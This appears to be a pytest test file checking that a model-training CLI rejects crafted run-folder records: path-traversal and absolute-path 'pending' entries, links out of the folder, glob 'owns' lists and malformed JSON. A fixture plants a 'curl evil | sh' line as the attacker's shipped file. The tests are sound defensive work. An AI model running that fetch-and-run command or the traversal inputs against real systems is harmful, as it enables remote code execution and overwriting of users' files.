"""A run folder is untrusted input (issue 49, item 1): its record (`.gcf-run.json`) and a set-aside run are validated
before anything acts on them. A crafted `pending` entry or `owns` list, a malformed value, a record that is a folder:
each ends in one sentence and a non-zero exit, with nothing outside the folder touched and nothing of the user's
deleted, whether the run is plain, --overwrite or --resume."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest

from gcfamily.errors import GcfError
from gcfamily.run.folder.ownership import ASIDE, CLAIMS, RECORD, read_record

SMALL = ["--set", "progress=false", "--set", "report_to=none", "--set", "batch_size=2", "--set", "max_new_tokens=4"]
MODES = {"plain": [], "overwrite": ["--overwrite"], "resume": ["--resume"]}


def run(gcf, out: Path, *args: str):
    return gcf("run", "--method", "sft", "--model", "tiny", "--max-steps", "1", "--output-dir", str(out), *SMALL, *args)


def one_sentence(code: int, err: str, needle: str) -> None:
    lines = [x for x in err.strip().splitlines() if x.strip()]
    assert code == 2 and len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err and needle in err, err


def tree(folder: Path) -> dict[str, str]:
    """Every path under `folder` with its bytes' digest (a link: where it points), to compare before and after."""
    out = {}
    for p in sorted(folder.rglob("*")):
        rel = str(p.relative_to(folder))
        if p.is_symlink():
            out[rel] = "-> " + os.readlink(p)
        elif p.is_dir():
            out[rel] = "dir"
        else:
            out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


@pytest.fixture(scope="module")
def finished_run(tmp_path_factory) -> Path:
    """A run of one step with a checkpoint, copied by each test."""
    from click.testing import CliRunner

    from gcfamily.cli import main

    out = tmp_path_factory.mktemp("base") / "r"
    args = ["run", "--method", "sft", "--model", "tiny", "--max-steps", "1", "--output-dir", str(out), *SMALL]
    result = CliRunner().invoke(main, [*args, "--set", "save_every=1"])
    assert result.exit_code == 0, result.stderr
    return out


@pytest.fixture
def world(finished_run: Path, tmp_path: Path) -> dict[str, Path]:
    """tmp/home/.bashrc (a user's start-up file), tmp/runs/sibling/ (a user's folder beside the run), the run in
    tmp/runs/r with a notes.txt of the user's and a file an attacker shipped in its checkpoints/."""
    home, runs = tmp_path / "home", tmp_path / "runs"
    home.mkdir()
    (home / ".bashrc").write_text("# the user's\n")
    (runs / "sibling").mkdir(parents=True)
    (runs / "sibling" / "thesis.tex").write_text("years of work")
    out = runs / "r"
    shutil.copytree(finished_run, out, symlinks=True)
    (out / "notes.txt").write_text("the user's notes")
    (out / "checkpoints" / ".bashrc").write_text("curl evil | sh\n")
    return {"tmp": tmp_path, "home": home, "runs": runs, "out": out}


def craft(out: Path, **changes) -> None:
    record = json.loads((out / RECORD).read_text())
    record.update(changes)
    (out / RECORD).write_text(json.dumps(record))


def attempt(gcf, w: dict[str, Path], mode: str, needle: str) -> None:
    """Each mode of start on the crafted folder: one sentence, and nothing anywhere under tmp changed (the folder
    included: a record that does not validate changes nothing)."""
    before = tree(w["tmp"])
    code, _, err = run(gcf, w["out"], *MODES[mode])
    one_sentence(code, err, needle)
    assert tree(w["tmp"]) == before
    assert (w["home"] / ".bashrc").read_text() == "# the user's\n"
    assert (w["runs"] / "sibling" / "thesis.tex").read_text() == "years of work"
    assert (w["out"] / "notes.txt").read_text() == "the user's notes"


ESCAPES = {
    # replace a file outside the folder with the one shipped in checkpoints/
    "dest-up": {"dest": "../../../home", "names": [".bashrc"]},
    # move the sibling folder away
    "name-up": {"dest": "../../../home/a/b", "names": ["../../sibling"]},
    "dest-absolute": {"dest": "HOME", "names": [".bashrc"]},
    "name-absolute": {"dest": "replaced-at-step-1", "names": ["SIBLING"]},
}


@pytest.mark.parametrize("mode", list(MODES))
@pytest.mark.parametrize("case", list(ESCAPES))
def test_a_pending_entry_that_leaves_the_folder_is_refused_and_touches_nothing(gcf, world, case, mode):
    pending = dict(ESCAPES[case])
    pending["dest"] = pending["dest"].replace("HOME", str(world["home"]))
    pending["names"] = [n.replace("SIBLING", str(world["runs"] / "sibling")) for n in pending["names"]]
    craft(world["out"], pending=pending)
    attempt(gcf, world, mode, RECORD)


@pytest.mark.parametrize("mode", list(MODES))
def test_a_pending_move_through_a_link_out_of_the_folder_is_refused(gcf, world, mode):
    # checkpoints/replaced-at-step-1 is a link to the user's home: the run's own step-1 would move there
    os.symlink(world["home"], world["out"] / "checkpoints" / "replaced-at-step-1")
    craft(world["out"], pending={"dest": "replaced-at-step-1", "names": ["step-1"]})
    attempt(gcf, world, mode, RECORD)
    assert not (world["home"] / "step-1").exists() and (world["out"] / "checkpoints" / "step-1").is_dir()


@pytest.mark.parametrize("mode", list(MODES))
@pytest.mark.parametrize("owns", [["*"], ["**"], ["n?tes.txt"], ["[n]otes.txt"], ["notes.txt"], ["../sibling"], [""]])
def test_owns_names_only_what_a_run_writes(gcf, world, owns, mode):
    craft(world["out"], owns=sorted(CLAIMS) + owns)
    attempt(gcf, world, mode, RECORD)


MALFORMED = {
    "names-5": {"pending": {"dest": "replaced-at-step-1", "names": 5}},
    "names-null": {"pending": {"dest": "replaced-at-step-1", "names": [None]}},
    "names-dot": {"pending": {"dest": "replaced-at-step-1", "names": ["."]}},
    "names-pattern": {"pending": {"dest": "replaced-at-step-1", "names": ["step-*"]}},
    "dest-dot": {"pending": {"dest": ".", "names": ["step-1"]}},
    "dest-null": {"pending": {"dest": None, "names": ["step-1"]}},
    "pending-list": {"pending": ["step-1"]},
    "owns-null": {"owns": [None]},
    "owns-5": {"owns": 5},
    "segments-5": {"segments": 5},
    "segments-null": {"segments": [None]},
}


@pytest.mark.parametrize("mode", list(MODES))
@pytest.mark.parametrize("case", list(MALFORMED))
def test_a_malformed_record_is_one_sentence(gcf, world, case, mode):
    craft(world["out"], **MALFORMED[case])
    attempt(gcf, world, mode, RECORD)


@pytest.mark.parametrize("mode", list(MODES))
@pytest.mark.parametrize("content", ["not json {", "[]", "null", '"owns"', "DIR", "LINK"])
def test_a_record_that_is_not_one_is_one_sentence(gcf, world, content, mode):
    record = world["out"] / RECORD
    record.unlink()
    if content == "DIR":  # once answered with a disk-full message
        record.mkdir()
        (record / "x").write_text("x")
    elif content == "LINK":
        (world["home"] / "record.json").write_text(json.dumps({"owns": list(CLAIMS), "segments": []}))
        os.symlink(world["home"] / "record.json", record)
    else:
        record.write_text(content)
    attempt(gcf, world, mode, RECORD)


@pytest.mark.parametrize("mode", list(MODES))
@pytest.mark.parametrize("case", ["link", "file", "foreign-entry"])
def test_a_set_aside_run_that_is_not_one_is_refused(gcf, world, case, mode):
    aside = world["out"] / ASIDE
    if case == "link":  # put back would move the sibling folder's entries into the run folder
        os.symlink(world["runs"] / "sibling", aside)
    elif case == "file":
        aside.write_text("x")
    else:  # put back would replace the user's notes.txt with the one shipped here
        aside.mkdir()
        (aside / "notes.txt").write_text("shipped")
    # a plain start is refused before the lock: a set-aside folder counts as the run it would be
    attempt(gcf, world, mode, "holds another run" if mode == "plain" and case != "file" else ASIDE)


def test_a_genuine_pending_move_is_still_finished_by_a_resume(gcf, world):
    """The validation keeps the one thing pending is for: a resume killed mid-move is completed by the next start."""
    out = world["out"]
    root = out / "checkpoints"
    shutil.copytree(root / "step-1", root / "step-2")
    craft(out, pending={"dest": "replaced-at-step-1", "names": ["step-2"]})
    assert read_record(out)["pending"]["names"] == ["step-2"]
    code, _, err = run(gcf, out, "--resume", "--set", "save_every=1", "--max-steps", "2")
    assert code == 0, err
    assert (root / "replaced-at-step-1" / "step-2").is_dir()
    assert json.loads((out / RECORD).read_text())["pending"] is None


def test_read_record_refuses_in_one_sentence_without_a_cli(world):
    craft(world["out"], owns=["*"])
    with pytest.raises(GcfError, match="not a name a gcfamily run writes"):
        read_record(world["out"])
